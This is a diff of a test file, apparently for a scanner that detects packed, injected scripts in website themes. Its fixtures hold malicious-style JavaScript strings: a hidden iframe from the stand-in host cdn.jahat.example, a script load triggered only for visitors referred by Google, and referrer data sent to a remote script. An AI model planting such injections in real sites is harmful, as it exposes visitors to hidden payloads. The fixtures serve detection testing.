@@ -50,12 +50,14 @@ HANDED_OVER = (
 )
 FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
 PACKED_ACTS = [
-    # What is packed and makes a frame or looks at who comes is no theme's news,
+    # What is packed and makes a frame, or looks who comes from a search is no theme's news,
     # whatever a comment says and whichever elements of the page it names.
     packed(FRAME + "document.body.appendChild(f)", ["a"]),
     packed("$(\\'.menu\\').hide();" + FRAME + "$(\\'body\\').append(f)", ["a"]),
-    packed("$.getScript(\\'https://cdn.jahat.example/k.js?\\'+document.referrer)", ["a"]),
-    packed("navigator.userAgent;$.getScript(\\'https://cdn.jahat.example/k.js\\')", ["a"]),
+    packed(
+        "if(/google/.test(document.referrer))$.getScript(\\'https://cdn.jahat.example/k.js\\')",
+        ["a"],
+    ),
 ]
 SAYS = "<!-- Tema oleh cdn.jahat.example --><div class=menu>Menu</div>"
 CONTENTS = [
@@ -252,15 +254,15 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
         ('<a href="https://temaku.example/">Temaku</a>', "look"),
         ("", "loader"),
         ('<link rel="stylesheet" href="https://cdn.lain.example/huruf.css">', "loader"),
-        # A link in hiding says nothing, nor does what a comment or the text says.
+        # A link in hiding says nothing, nor does a comment.
         ('<a style="display:none" href="https://temaku.example/">Temaku</a>', "loader"),
-        ("<!-- temaku.example --><p>Tema oleh temaku.example</p>", "loader"),
+        ("<!-- Tema Temaku, temaku.example -->", "loader"),
     ],
 )
 def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(page), URL, ZONE, exchange, truncated=False)
-    counted = packed("$.getScript(\\'https://cdn.temaku.example/k.js?\\'+document.referrer)", ["a"])
+    counted = packed(FRAME.replace("jahat", "temaku") + "document.body.appendChild(f)", ["a"])
     assert on_page(counted, page, markup).message == message
     # That it loads a script for everybody proves nothing by itself.
     assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
@@ -270,10 +272,10 @@ def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: 
     "source",
     [
         "document.write(\\'<script src=https://cdn.temaku.example/a.js><\\'+\\'/script>\\')",
-        "var o={u:\\'https://cdn.temaku.example/a.js\\'};$(\\'.menu\\').on(\\'x\\',o);"
-        "$.getScript(o.u)",
-        "function m(u){var s=document.createElement(\\'script\\');s.src=u;d.append(s)}"
-        "m(\\'https://cdn.temaku.example/a.php?t=1\\')",
+        "var o={u:\\'https://cdn.temaku.example/a.js\\'};$.getScript(o.u)",
+        "function m(u){$.getScript(u)}m(\\'https://cdn.temaku.example/a.php?t=1\\')",
+        "navigator.userAgent;$.getScript(\\'https://cdn.temaku.example/a.js\\')",
+        "$.getScript(\\'https://cdn.temaku.example/a.js?r=\\'+document.referrer)",
     ],
 )
 def test_however_a_packed_theme_loads_its_makers_script(source: str) -> None:
